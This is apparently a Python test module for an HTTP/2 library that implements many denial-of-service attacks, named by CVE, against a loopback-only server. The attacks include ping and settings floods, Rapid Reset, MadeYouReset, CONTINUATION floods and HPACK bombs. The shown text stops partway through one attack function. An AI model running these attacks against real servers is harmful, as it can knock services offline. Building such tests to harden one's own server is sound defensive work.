"""Attacks on HTTP/2 servers, each a function of an open address, and what is measured meanwhile.

    python -m tests.attacks                     all of them against an `h2lite serve` of its own
    python -m tests.attacks http://HOST:PORT    against a server that runs already, on loopback
    python -m tests.attacks --peers             against other people's servers too

The attackers are raw sockets with frames of our own encoders, and octets written by hand where an
encoder would refuse.  Each is bounded in time and octets, and returns what the server answered.
Names and CVE numbers are those of the publications; where one names several ways, each is here.
"""

from __future__ import annotations

import argparse
import functools
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from hpack import Decoder, Encoder

from h2lite.client import ConnectionPool
from h2lite.errors import ErrorCode, H2liteError, error_name
from h2lite.framer import CLIENT_PREFACE
from h2lite.frames import (
    FLAG_ACK,
    FLAG_END_STREAM,
    FRAME_HEADER,
    FRAME_HEADER_SIZE,
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    Priority,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
    encode_frame,
)
from h2lite.settings import SettingId
from h2lite.timeout import Timeout

if TYPE_CHECKING:
    from typing_extensions import Self

SECONDS = 3.0  # one attack's time, if nobody says otherwise
HELLO_S = 1.0  # for the server's own SETTINGS
VERDICT_S = 2.0  # what a server has, after the last octet, to say what it thinks of them
WORK_S = 8.0  # the same where it has to work off what it was sent
MANY = 20_000  # frames that an honest client would not send in a second
BIG = 10_000_000  # octets of an answer that no socket buffer holds
LARGEST = 2**31 - 1
GROWTH_STOP = 2**31  # octets at which a server under attack is ended, for the machine's sake
BYSTANDER_S = 30.0  # of patience for each answer; how long they take is judged elsewhere
CONNECTS_LATE_MAX = 5  # that are not answered within HELLO_S

Block = list[tuple[bytes, bytes]]


# -- what came of it ---------------------------------------------------------------------------


@dataclass
class Outcome:
    """What a server answered an attack with, and what that had cost by then.

    goaway, debug   the last GOAWAY's code, "" when there was none, and its debug data
    resets          RST_STREAM by code
    responses       by status, "?" where nobody decodes them
    ending          of each connection: "eof", "reset", "went on" (it answers a PING behind the
                    attack) or "open" (it says nothing, and has not closed either)
    """

    attack: str = ""
    goaway: str = ""
    debug: str = ""
    resets: Counter[str] = field(default_factory=Counter)
    responses: Counter[str] = field(default_factory=Counter)
    endings: Counter[str] = field(default_factory=Counter)
    frames: int = 0
    octets: int = 0
    octets_back: int = 0
    seconds: float = 0.0
    note: str = ""

    @property
    def ended(self) -> bool:
        """The server has ended every connection."""
        return not (self.endings["went on"] or self.endings["open"])

    @property
    def answer(self) -> str:
        parts = []
        if self.goaway:
            parts.append(f"GOAWAY {self.goaway}" + (f" '{self.debug}'" if self.debug else ""))
        parts += [f"RST {code} x{count}" for code, count in sorted(self.resets.items())]
        parts += [
            f"{status} x{count}"
            for status, count in sorted(self.responses.items())
            if not status.startswith("2")
        ]
        for ending, count in sorted(self.endings.items()):
            if not (self.goaway and ending in ("eof", "reset")):
                parts.append(ending if count == 1 else f"{ending} x{count}")
        if self.note:
            parts.append(self.note)
        return ", ".join(parts)

    def add(self, other: Outcome) -> None:
        """Another connection of the same attack."""
        self.goaway = other.goaway or self.goaway
        self.debug = other.debug or self.debug
        for mine, theirs in (
            (self.resets, other.resets),
            (self.responses, other.responses),
            (self.endings, other.endings),
        ):
            mine.update(theirs)
        self.frames += other.frames
        self.octets += other.octets
        self.octets_back += other.octets_back


@dataclass
class Target:
    """Where to attack.

    url, tls_url   in cleartext, and under TLS (None: no TLS there)
    big            the path of an answer of BIG octets
    """

    url: str
    tls_url: str | None = None
    big: str = f"/bytes/{BIG}"

    @property
    def address(self) -> tuple[str, int]:
        return _address(self.url)

    @property
    def tls_address(self) -> tuple[str, int]:
        assert self.tls_url is not None
        return _address(self.tls_url)


def _address(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    assert parts.hostname is not None
    assert parts.port is not None
    if parts.hostname not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit(f"{url}: attacks stay on loopback")
    return parts.hostname, parts.port


needs_proc = pytest.mark.skipif(
    not Path("/proc/self/clear_refs").exists(), reason="no /proc here to measure memory by"
)

Attack = Callable[..., Outcome]
ATTACKS: dict[str, Attack] = {}


def attack(function: Callable[..., Outcome]) -> Attack:
    """Enter an attack in the table; its outcome carries its name and the seconds it took."""

    @functools.wraps(function)
    def run(target: Target, *arguments: Any, **options: Any) -> Outcome:
        began = time.monotonic()
        outcome = function(target, *arguments, **options)
        outcome.attack = function.__name__
        outcome.seconds = time.monotonic() - began
        return outcome

    ATTACKS[function.__name__] = run
    return run


# -- the attacker ------------------------------------------------------------------------------


def connected(
    address: tuple[str, int], receive_buffer: int | None = None
) -> socket.socket:
    sock = socket.socket()
    if receive_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.settimeout(HELLO_S)
    sock.connect(address)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.setblocking(False)
    return sock


class Attacker:
    """One client on a raw socket: it sends what it is told, and notes what comes back.

    settings   of its SETTINGS frame, (identifier, value) pairs
    reads      False: nothing is read until the attack is over, and little fits in the socket
    begins     False: not even the preface is sent
    seconds    from now, until everything it does is cut short
    """

    def __init__(
        self,
        target: Target,
        *,
        settings: Sequence[tuple[int, int]] = (),
        reads: bool = True,
        begins: bool = True,
        seconds: float = SECONDS,
    ) -> None:
        self.target = target
        self.deadline = time.monotonic() + seconds
        self.reads = True
        self.sock = connected(target.address, None if reads else 4096)
        self.poll = select.poll()
        self.poll.register(self.sock, select.POLLIN)
        self.said = Outcome()
        self.ending = ""
        self.acked = False
        self.windows = {0: 65535}
        self.initial_window = 65535
        self.stream_id = -1
        self.statuses: dict[int, str] = {}
        self.done: set[int] = set()
        self._greeted = False
        self._input = bytearray()
        self._decoder = Decoder()
        if begins:
            self.send(CLIENT_PREFACE + SettingsFrame(tuple(settings)).encode(), 1)
            limit = time.monotonic() + HELLO_S
            while not self._greeted and not self.ending and time.monotonic() < limit:
                self.read(0.05)
            self.send(SettingsFrame(ack=True).encode(), 1)
        self.reads = reads

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.sock.close()

    @property
    def is_over(self) -> bool:
        """The server has ended the connection, or the time is up."""
        return bool(self.ending) or time.monotonic() >= self.deadline

    # -- octets --------------------------------------------------------------------------------

    def send(self, octets: bytes, frames: int = 1) -> bool:
        """All of the octets, unless the server ends the connection; what comes is read."""
        rest = memoryview(octets)
        while rest and not self.is_over:
            self._wait(select.POLLOUT, self.deadline - time.monotonic())
            try:
                taken = self.sock.send(rest[:65536])
            except BlockingIOError:
                continue
            except OSError:
                self._drain()
                self.ending = self.ending or "reset"
                break
            rest = rest[taken:]
            self.said.octets += taken
        sent = len(octets) - len(rest)
        self.said.frames += frames * sent // len(octets) if octets else 0
        return not rest

    def read(self, seconds: float) -> None:
        """What comes within so much time; return at the first of it."""
        self._wait(0, min(seconds, self.deadline - time.monotonic()))

    def _wait(self, wanted: int, seconds: float) -> None:
        self.poll.modify(self.sock, wanted | (select.POLLIN if self.reads else 0))
        for _, seen in self.poll.poll(max(0.0, seconds) * 1000):
            if seen & (select.POLLIN | select.POLLHUP | select.POLLERR) and (
                self.reads or not seen & select.POLLOUT
            ):
                self._receive()

    def _receive(self) -> None:
        try:
            data = self.sock.recv(262144)
        except BlockingIOError:
            return
        except OSError:
            self.ending = "reset"
            return
        if not data:
            self.ending = "eof"
            return
        self.said.octets_back += len(data)
        self._input += data
        self._take_frames()

    def _drain(self) -> None:
        """Sending has failed: what the server had said before may still be there."""
        before = -1
        while not self.ending and before != self.said.octets_back:
            before = self.said.octets_back
            self._receive()

    def _take_frames(self) -> None:
        at = 0
        data = self._input
        while len(data) - at >= FRAME_HEADER_SIZE:
            high, low, type_, flags, stream_id = FRAME_HEADER.unpack_from(data, at)
            start = at + FRAME_HEADER_SIZE
            end = start + (high << 8 | low)
            if end > len(data):
                break
            self._take(type_, flags, stream_id & LARGEST, data, start, end)
            at = end
        del data[:at]

    def _take(
        self, type_: int, flags: int, stream_id: int, data: bytearray, start: int, end: int
    ) -> None:
        if type_ == DataFrame.TYPE:
            if flags & FLAG_END_STREAM:
                self.done.add(stream_id)
        elif type_ == HeadersFrame.TYPE:
            status = self._status(bytes(data[start:end]))
            self.said.responses[status] += 1
            self.statuses[stream_id] = status
            if flags & FLAG_END_STREAM:
                self.done.add(stream_id)
        elif type_ == RstStreamFrame.TYPE:
            code = error_name(struct.unpack_from(">I", data, start)[0])
            self.said.resets[code] += 1
            self.statuses[stream_id] = code
            self.done.add(stream_id)
        elif type_ == GoAwayFrame.TYPE:
            self.said.goaway = error_name(struct.unpack_from(">I", data, start + 4)[0])
            self.said.debug = bytes(data[start + 8 : end]).decode("latin-1")[:80]
        elif type_ == SettingsFrame.TYPE and not flags & FLAG_ACK:
            self._greeted = True
            for key, value in struct.iter_unpack(">HI", data[start:end]):
                if key == SettingId.INITIAL_WINDOW_SIZE:
                    self.initial_window = value
        elif type_ == PingFrame.TYPE and flags & FLAG_ACK:
            self.acked = self.acked or data[start:end] == b"verdict?"
        elif type_ == WindowUpdateFrame.TYPE:
            (increment,) = struct.unpack_from(">I", data, start)
            self.windows[stream_id] = self._window(stream_id) + increment

    def _status(self, block: bytes) -> str:
        try:
            return bytes(next(iter(self._decoder.decode(block, raw=True)))[1]).decode()
        except Exception:  # noqa: BLE001  the rest of a large section is in CONTINUATION frames
            return "?"

    # -- messages ------------------------------------------------------------------------------

    def next_id(self) -> int:
        self.stream_id += 2
        return self.stream_id

    def block(
        self, path: str = "/healthz", *more: tuple[bytes, bytes], method: str = "GET"
    ) -> bytes:
        return request_block(self.target, path, *more, method=method)

    def get(self, path: str, count: int = 1) -> bytes:
        """The octets of so many requests without content."""
        octets = self.block(path)
        return b"".join(
            HeadersFrame(self.next_id(), octets, end_stream=True).encode() for _ in range(count)
        )

    def begin_post(self, path: str = "/echo") -> int:
        """Open a stream whose content is still to come."""
        stream_id = self.next_id()
        self.send(HeadersFrame(stream_id, self.block(path, method="POST")).encode())
        return stream_id

    def _window(self, stream_id: int) -> int:
        return self.windows.get(stream_id, self.initial_window)

    def pour(self, stream_id: int, frame: bytes, cost: int, count: int) -> None:
        """One DATA frame again and again, as the server's windows allow; cost: of each."""
        while count and not self.is_over and stream_id not in self.done:
            room = min(self._window(0), self._window(stream_id)) // cost if cost else count
            fit = min(room, count, 500)
            if not fit:
                self.read(0.05)
                continue
            self.send(frame * fit, fit)
            count -= fit
            for key in (0, stream_id):
                self.windows[key] = self._window(key) - cost * fit

    def dribble(self, octets: bytes, every: float = 0.05) -> None:
        """Octet by octet, until the server has had enough of it or the time is up."""
        for at in range(len(octets)):
            if not self.send(octets[at : at + 1], 0) or self.is_over:
                return
            self.wait(every)

    def wait(self, seconds: float) -> None:
        """Read what comes, for so long."""
        until = min(time.monotonic() + seconds, self.deadline)
        while not self.ending and time.monotonic() < until:
            if self.reads:
                self.read(until - time.monotonic())
            else:
                time.sleep(min(0.05, max(0.0, until - time.monotonic())))

    def wait_answered(self) -> None:
        """Until every stream so far is over."""
        while not self.is_over and len(self.done) < (self.stream_id + 1) // 2:
            self.read(0.1)

    def wait_ended(self) -> None:
        """Until the server ends the connection or the time is up."""
        self.wait(self.deadline - time.monotonic())

    def wait_reset(self, reads: int = 0) -> None:
        """Until the server resets the connection, though much lies unread; reads: at each look."""
        self.poll.modify(self.sock, 0)
        while not self.is_over:
            if self.poll.poll(50):  # POLLERR or POLLHUP, which are always told
                self.ending = "reset"
            elif reads:
                try:
                    self.sock.recv(reads)
                except OSError:
                    continue

    def outcome(self, ask: bool = True, patience: float = VERDICT_S) -> Outcome:
        """Hear the verdict.

        ask        whether a PING may follow what was sent last
        patience   seconds that the server has for it
        """
        limit = time.monotonic() + patience
        self.deadline = max(self.deadline, limit)
        self.reads = True
        if ask:
            self.send(PingFrame(b"verdict?").encode())
        while not self.ending and time.monotonic() < limit:
            if self.acked and not self.said.goaway:
                break
            self.read(0.1)
        self.said.endings[self.ending or ("went on" if self.acked else "open")] += 1
        return self.said


def request_block(
    target: Target, path: str = "/healthz", *more: tuple[bytes, bytes], method: str = "GET"
) -> bytes:
    """A field block that refers to nothing before it."""
    octets: bytes = Encoder().encode(request_fields(target, path, *more, method=method))
    return octets


def request_fields(
    target: Target, path: str = "/healthz", *more: tuple[bytes, bytes], method: str = "GET"
) -> Block:
    host, port = target.address
    return [
        (b":method", method.encode()),
        (b":scheme", b"http"),
        (b":authority", f"{host}:{port}".encode()),
        (b":path", path.encode()),
        *more,
    ]


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A literal field line of RFC 7541 §6.2, whatever octets it holds."""
    start = b"\x40" if indexed else b"\x00"
    return start + _string(name) + _string(value)


def _string(octets: bytes, huffman: bool = False) -> bytes:
    """A string literal of RFC 7541 §5.2; the octets are coded already where huffman is said."""
    flag = 0x80 if huffman else 0
    length = len(octets)
    if length < 127:
        return bytes((flag | length,)) + octets
    head, length = bytearray((flag | 127,)), length - 127
    while length > 127:
        head.append(length & 127 | 128)
        length >>= 7
    head.append(length)
    return bytes(head) + octets


NO_WINDOW = ((SettingId.INITIAL_WINDOW_SIZE, 0),)
WIDE = ((SettingId.INITIAL_WINDOW_SIZE, LARGEST),)
WIDEN = WindowUpdateFrame(0, LARGEST - 65535).encode()


# -- floods of small frames --------------------------------------------------------------------


@attack
def ping_flood(target: Target) -> Outcome:
    """CVE-2019-9512: PINGs whose acks are never read, so that they pile up in the server."""
    with Attacker(target, reads=False) as client:
        client.send(PingFrame(b"pingping").encode() * 2 * MANY, 2 * MANY)
        return client.outcome()


@attack
def ping_flood_read(target: Target) -> Outcome:
    """CVE-2019-9512, politely: as many PINGs, and their acks are read."""
    with Attacker(target) as client:
        client.send(PingFrame(b"pingping").encode() * MANY, MANY)
        return client.outcome()


@attack
def ping_ack_flood(target: Target) -> Outcome:
    """Acks of PINGs that nobody sent."""
    with Attacker(target) as client:
        client.send(PingFrame(b"pingping", ack=True).encode() * MANY, MANY)
        return client.outcome()


@attack
def settings_flood(target: Target) -> Outcome:
    """CVE-2019-9515: empty SETTINGS, each of which wants an ack that is never read."""
    with Attacker(target, reads=False) as client:
        client.send(SettingsFrame().encode() * 2 * MANY, 2 * MANY)
        return client.outcome()


@attack
def settings_flood_read(target: Target) -> Outcome:
    """CVE-2019-9515 with the acks read."""
    with Attacker(target) as client:
        client.send(SettingsFrame().encode() * MANY, MANY)
        return client.outcome()


@attack
def settings_entries(target: Target) -> Outcome:
    """SETTINGS frames of as many entries as a frame holds (after CVE-2020-11080, nghttp2)."""
    with Attacker(target) as client:
        frame = SettingsFrame(((0xF000, 1),) * (16384 // 6)).encode()
        client.send(frame * 300, 300)
        return client.outcome()


@attack
def settings_ack_flood(target: Target) -> Outcome:
    """Acks of SETTINGS that nobody sent."""
    with Attacker(target) as client:
        client.send(SettingsFrame(ack=True).encode() * MANY, MANY)
        return client.outcome()


@attack
def settings_churn(target: Target) -> Outcome:
    """Windows and table sizes up and down, with a hundred streams whose windows must follow."""
    with Attacker(target, settings=NO_WINDOW) as client:
        client.send(client.get(target.big, 100), 100)
        up = ((SettingId.HEADER_TABLE_SIZE, 0), (SettingId.INITIAL_WINDOW_SIZE, 1))
        down = ((SettingId.HEADER_TABLE_SIZE, 4096), (SettingId.INITIAL_WINDOW_SIZE, 0))
        both = SettingsFrame(up).encode() + SettingsFrame(down).encode()
        client.send(both * (MANY // 2), MANY)
        return client.outcome()


@attack
def window_update_flood(target: Target) -> Outcome:
    """WINDOW_UPDATE of one octet on the connection, which nobody has sent DATA on."""
    with Attacker(target) as client:
        client.send(WindowUpdateFrame(0, 1).encode() * MANY, MANY)
        return client.outcome()


@attack
def window_update_closed(target: Target) -> Outcome:
    """WINDOW_UPDATE on a stream that has ended."""
    with Attacker(target) as client:
        client.send(client.get("/healthz"))
        client.wait(0.1)
        client.send(WindowUpdateFrame(1, 1).encode() * MANY, MANY)
        return client.outcome()


@attack
def unknown_frame_flood(target: Target) -> Outcome:
    """Frames of a type that RFC 9113 does not define, which are to be ignored."""
    with Attacker(target) as client:
        client.send(encode_frame(0xEE, 0, 0, b"ignored!") * MANY, MANY)
        return client.outcome()


@attack
def goaway_flood(target: Target) -> Outcome:
    """A client that says GOAWAY again and again."""
    with Attacker(target) as client:
        client.send(GoAwayFrame(0, ErrorCode.NO_ERROR).encode() * MANY, MANY)
        return client.outcome()


@attack
def priority_churn(target: Target) -> Outcome:
    """CVE-2019-9513 on idle streams: a tree of priorities that never stands still."""
    with Attacker(target) as client:
        frames = [
            PriorityFrame(stream_id, Priority(True, stream_id - 2, 15)).encode()
            for stream_id in range(3, 203, 2)
        ]
        client.send(b"".join(frames) * (MANY // 100), MANY)
        return client.outcome()


@attack
def resource_loop(target: Target) -> Outcome:
    """CVE-2019-9513: streams that wait for a window, and whose priorities are shuffled."""
    with Attacker(target, settings=NO_WINDOW) as client:
        client.send(client.get(target.big, 100), 100)
        ids = range(1, 201, 2)
        frames = [
            PriorityFrame(stream_id, Priority(True, (stream_id + 36) % 200 or 199, 255)).encode()
            for stream_id in ids
        ]
        client.send(b"".join(frames) * (MANY // 100), MANY)
        return client.outcome()


@attack
def empty_data(target: Target) -> Outcome:
    """CVE-2019-9518: DATA without an octet and without END_STREAM."""
    with Attacker(target) as client:
        stream_id = client.begin_post()
        client.pour(stream_id, DataFrame(stream_id, b"").encode(), 0, MANY)
        return client.outcome()


@attack
def empty_headers(target: Target) -> Outcome:
    """CVE-2019-9518 with HEADERS: on each new stream a field section of nothing."""
    with Attacker(target) as client:
        frames = [HeadersFrame(client.next_id(), b"").encode() for _ in range(2000)]
        client.send(b"".join(frames), len(frames))
        return client.outcome()


@attack
def padding_only(target: Target) -> Outcome:
    """CVE-2019-9518 with padding: 255 octets of it a frame, and none of content."""
    with Attacker(target) as client:
        stream_id = client.begin_post()
        frame = DataFrame(stream_id, b"", pad_length=255).encode()
        client.pour(stream_id, frame, 256, MANY)
        return client.outcome()


@attack
def one_octet_data(target: Target) -> Outcome:
    """Content in frames of one octet each, sent back as it comes where there is an /echo."""
    with Attacker(target) as client:
        stream_id = client.begin_post()
        client.pour(stream_id, DataFrame(stream_id, b"x").encode(), 1, MANY)
        return client.outcome()


@attack
def oversized_frames(target: Target) -> Outcome:
    """Frames above MAX_FRAME_SIZE, of a type that is to be ignored, on a stream."""
    with Attacker(target) as client:
        client.send(client.get("/healthz"))
        client.send(encode_frame(0xEE, 0, 1, bytes(16385)) * 200, 200)
        return client.outcome()


# -- floods of resets --------------------------------------------------------------------------


@attack
def rapid_reset(target: Target) -> Outcome:
    """CVE-2023-44487: every request is taken back at once, so that no limit on streams sees it."""
    with Attacker(target) as client:
        octets = client.block()
        frames = []
        for _ in range(3000):
            stream_id = client.next_id()
            frames.append(HeadersFrame(stream_id, octets, end_stream=True).encode())
            frames.append(RstStreamFrame(stream_id, ErrorCode.CANCEL).encode())
        client.send(b"".join(frames), len(frames))
        return client.outcome()


@attack
def rapid_reset_below(target: Target) -> Outcome:
    """CVE-2023-44487 from twenty connections, each below what one is allowed: 150 resets."""
    outcome = Outcome()
    with ExitStack() as stack:
        clients = [stack.enter_context(Attacker(target)) for _ in range(20)]
        for client in clients:
            octets = client.block()
            for _ in range(150):
                stream_id = client.next_id()
                client.send(
                    HeadersFrame(stream_id, octets, end_stream=True).encode()
                    + RstStreamFrame(stream_id, ErrorCode.CANCEL).encode(),
                    2,
                )
        for client in clients:
            outcome.add(client.outcome())
    return outcome


@attack
def reset_flood(target: Target) -> Outcome:
    """CVE-2019-9514: malformed requests, whose RST_STREAM frames nobody reads."""
    with Attacker(target, reads=False) as client:
        octets = client.block("/healthz", (b"Upper", b"case"))
        # hpack leaves names as they are; the server must not.
        frames = [
            HeadersFrame(client.next_id(), octets, end_stream=True).encode() for _ in range(MANY)
        ]
        client.send(b"".join(frames), MANY)
        return client.outcome()


@attack
def reset_closed_flood(target: Target) -> Outcome:
    """RST_STREAM on a stream that has ended: nothing to reset, nothing to answer."""
    with Attacker(target) as client:
        client.send(client.get("/healthz"))
        client.wait(0.1)
        client.send(RstStreamFrame(1, ErrorCode.CANCEL).encode() * MANY, MANY)
        return client.outcome()


@attack
def data_after_reset(target: Target) -> Outcome:
    """DATA on a stream that the server has reset, far more than its window let pass."""
    with Attacker(target) as client:
        stream_id = client.next_id()
        octets = client.block("/echo", (b"Upper", b"case"), method="POST")
        client.send(HeadersFrame(stream_id, octets).encode())
        client.wait(0.1)
        client.done.discard(stream_id)
        # No window of that stream is given back, but nobody counts against it either.
        client.windows[stream_id] = LARGEST
        client.pour(stream_id, DataFrame(stream_id, bytes(100)).encode(), 100, MANY)
        return client.outcome()


@attack
def headers_after_reset(target: Target) -> Outcome:
    """HEADERS on a stream that the server has reset: each is decoded, then dropped."""
    with Attacker(target) as client:
        stream_id = client.next_id()
        octets = client.block("/healthz", (b"Upper", b"case"))
        client.send(HeadersFrame(stream_id, octets).encode())
        client.wait(0.1)
        client.send(HeadersFrame(stream_id, client.block()).encode() * MANY, MANY)
        return client.outcome(patience=WORK_S)


@attack
def stream_refusals(target: Target) -> Outcome:
    """A hundred streams stand still, and thousands more are tried."""
    with Attacker(target, settings=NO_WINDOW) as client:
        client.send(client.get(target.big, 2100), 2100)
        return client.outcome()


def _zero_update(client: Attacker, stream_id: int) -> bytes:
    return encode_frame(WindowUpdateFrame.TYPE, 0, stream_id, bytes(4))


def _overflow(client: Attacker, stream_id: int) -> bytes:
    return WindowUpdateFrame(stream_id, LARGEST).encode() * 2


def _late_data(client: Attacker, stream_id: int) -> bytes:
    return DataFrame(stream_id, b"late").encode()


def _late_headers(client: Attacker, stream_id: int) -> bytes:
    return HeadersFrame(stream_id, client.block(), end_stream=True).encode()


def _short_priority(client: Attacker, stream_id: int) -> bytes:
    return encode_frame(PriorityFrame.TYPE, 0, stream_id, bytes(4))


def _self_dependency(client: Attacker, stream_id: int) -> bytes:
    return PriorityFrame(stream_id, Priority(False, stream_id, 15)).encode()


MADE_YOU_RESET: dict[str, Callable[[Attacker, int], bytes]] = {
    "zero_update": _zero_update,
    "overflow": _overflow,
    "late_data": _late_data,
    "late_headers": _late_headers,
    "short_priority": _short_priority,
    "self_dependency": _self_dependency,
}
MALFORMED: dict[str, tuple[bytes, bytes]] = {
    "length_no_number": (b"content-length", b"1x"),
    "length_too_long": (b"content-length", b"5"),  # and END_STREAM says that there is none
    "transfer_encoding": (b"transfer-encoding", b"chunked"),
}


def _made_you_reset(target: Target, provocation: Callable[[Attacker, int], bytes]) -> Outcome:
    with Attacker(target, settings=NO_WINDOW) as client:
        octets = client.block(target.big)
        frames = []
        for _ in range(1200):
            stream_id = client.next_id()
            frames.append(HeadersFrame(stream_id, octets, end_stream=True).encode())
            frames.append(provocation(client, stream_id))
        client.send(b"".join(frames), len(frames))
        return client.outcome()


def _made_you_refuse(target: Target, line: tuple[bytes, bytes]) -> Outcome:
    with Attacker(target, settings=NO_WINDOW) as client:
        octets = client.block(target.big, line)
        client.send(
            b"".join(
                HeadersFrame(client.next_id(), octets, end_stream=True).encode()
                for _ in range(1200)
            ),
            1200,
        )
        return client.outcome()


def _enter(name: str, function: Callable[..., Outcome], argument: object) -> None:
    def run(target: Target) -> Outcome:
        return function(target, argument)

    run.__name__ = name
    run.__doc__ = f"CVE-2025-8671, MadeYouReset by {name.removeprefix('made_you_reset_')}."
    attack(run)


for _name, _provocation in MADE_YOU_RESET.items():
    _enter(f"made_you_reset_{_name}", _made_you_reset, _provocation)
for _name, _line in MALFORMED.items():
    _enter(f"made_you_reset_{_name}", _made_you_refuse, _line)


# -- field blocks ------------------------------------------------------------------------------


def _endless_block(client: Attacker, fragment: bytes, count: int) -> None:
    stream_id = client.next_id()
    client.send(HeadersFrame(stream_id, client.block(), end_headers=False).encode())
    frame = ContinuationFrame(stream_id, fragment, end_headers=False).encode()
    client.send(frame * count, count)


FRAGMENT = (literal(b"a", b"b") * 4096)[:16380]


# A line that fills most of a table of 4 096 octets, so that an octet refers to 3 900.
BOMB = literal(b"bomb", b"x" * 3900, indexed=True)


@attack
def continuation_flood(target: Target) -> Outcome:
    """CVE-2024-27316, CVE-2024-24549, CVE-2024-28182: full CONTINUATIONs, END_HEADERS never."""
    with Attacker(target) as client:
        _endless_block(client, FRAGMENT, 400)
        return client.outcome(ask=False)


@attack
def continuation_small(target: Target) -> Outcome:
    """CVE-2024-30255: the same in fragments of one field line, so that frames count, not octets."""
    with Attacker(target) as client:
        _endless_block(client, literal(b"a", b"b"), MANY)
        return client.outcome(ask=False)


@attack
def continuation_empty(target: Target) -> Outcome:
    """CVE-2019-9518 and CVE-2024-30255: CONTINUATIONs of nothing, END_HEADERS never."""
    with Attacker(target) as client:
        _endless_block(client, b"", MANY)
        return client.outcome(ask=False)


@attack
def continuation_cut(target: Target) -> Outcome:
    """CVE-2024-27983: fifty connections reset in the midst of a field block."""
    outcome = Outcome()
    for _ in range(50):
        with Attacker(target) as client:
            _endless_block(client, FRAGMENT, 2)
            client.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            outcome.add(client.said)
        if client.ending:
            outcome.endings[client.ending] += 1
    with Attacker(target) as client:
        outcome.add(client.outcome())
    return outcome


@attack
def continuation_after_reset(target: Target) -> Outcome:
    """An endless field block on a stream that its client has just reset."""
    with Attacker(target, settings=NO_WINDOW) as client:
        client.send(client.get(target.big))
        client.send(RstStreamFrame(1, ErrorCode.CANCEL).encode())
        client.send(HeadersFrame(1, client.block(), end_headers=False).encode())
        client.send(ContinuationFrame(1, FRAGMENT, end_headers=False).encode() * 400, 400)
        return client.outcome(ask=False)


@attack
def hpack_bomb(target: Target) -> Outcome:
    """CVE-2016-6581: 16 000 references, an octet each, to one field line of 4 000 octets."""
    with Attacker(target) as client:
        bomb = client.block("/healthz") + BOMB
        client.send(HeadersFrame(client.next_id(), bomb, end_stream=True).encode())
        references = client.block("/healthz") + b"\xbe" * 16000
        for _ in range(4):
            client.send(HeadersFrame(client.next_id(), references, end_stream=True).encode())
        return client.outcome()


@attack
def hpack_bomb_below(target: Target) -> Outcome:
    """The same below 64 KiB a request, a thousand times: 40 octets each become 60 KiB."""
    with Attacker(target) as client:
        head = client.block("/healthz")
        bomb = head + BOMB
        client.send(HeadersFrame(client.next_id(), bomb, end_stream=True).encode())
        # Literals that do not enter the table, so that the line stays at its place there.
        plain = b"".join(literal(*line) for line in request_fields(target)) + b"\xbe" * 15
        for _ in range(20):
            frames = [
                HeadersFrame(client.next_id(), plain, end_stream=True).encode() for _ in range(50)
            ]
            if not client.send(b"".join(frames), 50):
                break
            client.wait_answered()
        return client.outcome()


@attack
def huffman_work(target: Target) -> Outcome:
    """Requests with 48 KiB of Huffman code each, the most work an octet can make."""
    with Attacker(target) as client:
        # RFC 7541 Appendix B: "0" is five zero bits, so that eight of them are five zero octets.
        coded = bytes(28000)
        line = b"\x00" + _string(b"a") + _string(coded, huffman=True)
        head = b"".join(literal(*field) for field in request_fields(target))
        for _ in range(60):
            if not _send_block(client, head + line):
                break
        return client.outcome(patience=WORK_S)


@attack
def indexed_work(target: Target) -> Outcome:
    """Requests of 1 900 field lines, an octet each: the most lines that 64 KiB can be."""
    with Attacker(target) as client:
        head = b"".join(literal(*field) for field in request_fields(target))
        octets = head + b"\xba" * 1000  # index 58, user-agent without a value
        for _ in range(10):
            frames = [
                HeadersFrame(client.next_id(), octets, end_stream=True).encode() for _ in range(10)
            ]
            if not client.send(b"".join(frames), len(frames)):
                break
            client.wait_answered()
        return client.outcome(patience=WORK_S)


@attack
def indexed_crowd(target: Target) -> Outcome:
    """The same from five connections at the same moment, forty requests each."""
    outcome = Outcome()
    with ExitStack() as stack:
        clients = [stack.enter_context(Attacker(target)) for _ in range(5)]
        head = b"".join(literal(*field) for field in request_fields(target))
        octets = head + b"\xba" * 1000
        for client in clients:
            ids = [client.next_id() for _ in range(40)]
            frames = [HeadersFrame(number, octets, end_stream=True).encode() for number in ids]
            client.send(b"".join(frames), len(frames))
        for client in clients:
            outcome.add(client.outcome(patience=WORK_S))
    return outcome


def _send_block(client: Attacker, block: bytes) -> bool:
    stream_id = client.next_id()
    first, rest = block[:16384], block[16384:]
    octets = HeadersFrame(stream_id, first, end_stream=True, end_headers=not rest).encode()
    frames = 1
    while rest:
        piece, rest = rest[:16384], rest[16384:]
        octets += ContinuationFrame(stream_id, piece, end_headers=not rest).encode()
        frames += 1
    return client.send(octets, frames)


@attack
def empty_header_names(target: Target) -> Outcome:
    """CVE-2019-9516: field lines without a name and without a value, Huffman coded."""
    with Attacker(target) as client:
        octets = client.block() + b"\x00\x80\x80" * 1500
        for _ in range(50):
            if not client.send(HeadersFrame(client.next_id(), octets, end_stream=True).encode()):
                break
        return client.outcome(patience=WORK_S)


# -- memory ------------------------------------------------------------------------------------


@attack
def data_dribble(target: Target) -> Outcome:
    """CVE-2019-9511: windows opened octet by octet, so that large answers leave in tiny frames."""
    with Attacker(target, settings=NO_WINDOW) as client:
        client.send(client.get(target.big, 100), 100)
        each = b"".join(WindowUpdateFrame(stream_id, 1).encode() for stream_id in range(1, 201, 2))
        for _ in range(100):
            if not client.send(each, 100):
                break
        return client.outcome()


@attack
def internal_data_buffering(target: Target) -> Outcome:
    """CVE-2019-9517: every HTTP/2 window is open, and the TCP window is closed."""
    with Attacker(target, settings=WIDE, reads=False) as client:
        client.send(WIDEN)
